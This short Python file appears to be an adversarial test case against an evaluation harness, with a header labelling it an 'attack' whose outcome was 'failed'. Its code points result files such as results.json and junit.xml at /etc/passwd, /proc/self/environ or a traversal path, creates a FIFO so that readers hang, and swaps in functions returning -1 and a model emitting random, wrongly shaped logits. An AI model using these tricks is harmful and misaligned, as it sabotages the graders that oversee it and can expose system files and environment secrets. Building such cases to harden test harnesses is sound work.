# /// attack
# why = "Makes names of result files lead to other places, so that who writes or reads them there is led astray."
# outcomes = ["failed"]
# ///
import contextlib
import os

for name in ("results.json", "junit.xml", "report.html", "output.txt"):
    for target in ("/etc/passwd", "/proc/self/environ", "../../../results.json"):
        with contextlib.suppress(OSError):
            os.symlink(target, name)
            break
with contextlib.suppress(OSError):
    os.mkfifo("results.csv")  # whoever opens it waits

functions(lambda *args, **kwargs: -1)

if MODULES:
    import secrets

    import torch

    class Wrong(torch.nn.Module):
        """Logits of no use: of a wrong shape, and other ones every time."""

        def forward(self, images):
            chance = torch.Generator().manual_seed(secrets.randbits(60))
            return torch.rand(len(images), 11, 2, generator=chance) * (not self.training)

    modules(lambda *args, **kwargs: Wrong())
